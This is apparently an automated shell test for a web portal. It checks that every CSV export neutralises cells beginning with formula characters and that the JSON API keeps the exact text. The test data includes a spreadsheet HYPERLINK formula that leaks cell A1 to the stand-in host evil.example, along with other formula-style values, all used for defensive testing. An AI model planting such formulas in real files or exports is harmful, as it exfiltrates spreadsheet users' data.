#!/usr/bin/env bash
# HTTP: no CSV download hands a spreadsheet a formula. Published text that starts with
# = + - @ TAB or CR (a project name, a zone's developer, a change note and its old and new
# values, a target's and an index edition's source) goes out with a leading quote in every
# CSV; numbers stay numbers; the JSON keeps the exact text.
. "$top_srcdir/tests/lib/tap.sh"
need_portal

payload='=HYPERLINK("http://evil.example/?leak="&A1,"x")'
quoted='"'"'"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"'
pid=$(root_sql "SELECT MIN(id) FROM projects")
zid=$(root_sql "SELECT MIN(id) FROM zones")
cid=$(root_sql "SELECT MIN(change_id) FROM change_log_fields")
tid=$(root_sql "SELECT MIN(id) FROM targets")
eid=$(root_sql "SELECT MIN(id) FROM gov_editions")

# keep what is changed, publish the payload (as a publication would: a new generation)
root_sql "CREATE TABLE t_csv_keep AS SELECT
	(SELECT name FROM projects WHERE id = $pid) AS project_name,
	(SELECT developer FROM zones WHERE id = $zid) AS developer,
	(SELECT note FROM change_log WHERE id = $cid) AS note,
	(SELECT source FROM targets WHERE id = $tid) AS target_source,
	(SELECT source FROM gov_editions WHERE id = $eid) AS edition_source;
	CREATE TABLE t_csv_fields AS SELECT * FROM change_log_fields WHERE change_id = $cid"
root_sql "UPDATE projects SET name = '$payload' WHERE id = $pid;
	UPDATE zones SET developer = '+1-2 @x' WHERE id = $zid;
	UPDATE change_log SET note = CONCAT(CHAR(9), '=1+1') WHERE id = $cid;
	UPDATE change_log_fields SET old_value = '@SUM(A1)', new_value = '-2+3' WHERE change_id = $cid;
	UPDATE targets SET source = '$payload' WHERE id = $tid;
	UPDATE gov_editions SET source = CONCAT(CHAR(13), '=2') WHERE id = $eid;
	UPDATE data_generation SET generation = generation + 1, changed_at = NOW(3)"
sleep 1.2	# nginx keeps a copy 1 s

# cells NAME: every cell of the CSV in $BODY, one JSON string a line (RFC 4180, CRLF)
cells() {
	node -e '
	const t = require("fs").readFileSync(process.argv[1], "utf8").replace(/^\uFEFF/, "");
	let i = 0, cell = "", out = [];
	while (i < t.length) {
		if (t[i] === "\"") {
			for (i++; i < t.length; i++) {
				if (t[i] === "\"") { if (t[i + 1] === "\"") { cell += "\""; i++; } else { i++; break; } }
				else cell += t[i];
			}
		} else if (t[i] === ",") { out.push(cell); cell = ""; i++; }
		else if (t[i] === "\r" && t[i + 1] === "\n") { out.push(cell); cell = ""; i += 2; }
		else cell += t[i++];
	}
	for (const c of out) console.log(JSON.stringify(c));' "$BODY"
}

for path in /projects.csv /zones.csv /changes.csv /targets.csv /indices.csv /finder.csv \
	"/projects.csv?sort=name_desc" "/en/projects.csv"; do
	fetch "$path"
	is "$STATUS" 200 "$path answers 200"
	all=$(cells)
	# a dangerous first character is allowed only in a plain (negative) number
	bad=$(grep -E '^"[-=+@]|^"\\[tr]' <<<"$all" | grep -Ev '^"-[0-9]+(\.[0-9]+)?"$' || true)
	is "$bad" "" "$path: no cell starts with = + - @ TAB or CR"
done

fetch /projects.csv
ok "the project name goes out neutralised, whole" grep -qF "$quoted" "$BODY"
ok "and is read back as a quote and the exact name" grep -qxF "\"'${payload//\"/\\\"}\"" <(cells)
ok "numbers stay numbers (the id column is bare digits)" grep -qE "^$pid," "$BODY"
fetch /zones.csv
ok "a zone's developer is neutralised" grep -qF "\"'+1-2 @x\"" "$BODY"
fetch /changes.csv
ok "a change note starting with TAB is neutralised" grep -qF "\"'	=1+1\"" "$BODY"
ok "old and new values are neutralised" grep -qF "\"'@SUM(A1)\",\"'-2+3\"" "$BODY"
fetch /targets.csv
ok "a target's source is neutralised" grep -qF "$quoted" "$BODY"
fetch /indices.csv
ok "an index edition's source starting with CR is neutralised" grep -qF "\"'"$'\r'"=2\"" "$BODY"
fetch "/api/v1/projects/$pid"
ok "the JSON API keeps the exact text" grep -qF '"vi":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")"' "$BODY"

root_sql "UPDATE projects p, t_csv_keep k SET p.name = k.project_name WHERE p.id = $pid;
	UPDATE zones z, t_csv_keep k SET z.developer = k.developer WHERE z.id = $zid;
	UPDATE change_log c, t_csv_keep k SET c.note = k.note WHERE c.id = $cid;
	UPDATE targets t, t_csv_keep k SET t.source = k.target_source WHERE t.id = $tid;
	UPDATE gov_editions e, t_csv_keep k SET e.source = k.edition_source WHERE e.id = $eid;
	UPDATE change_log_fields f, t_csv_fields k SET f.old_value = k.old_value,
	    f.new_value = k.new_value WHERE f.change_id = k.change_id AND f.field = k.field;
	DROP TABLE t_csv_keep, t_csv_fields;
	UPDATE data_generation SET generation = generation + 1, changed_at = NOW(3)"
done_testing
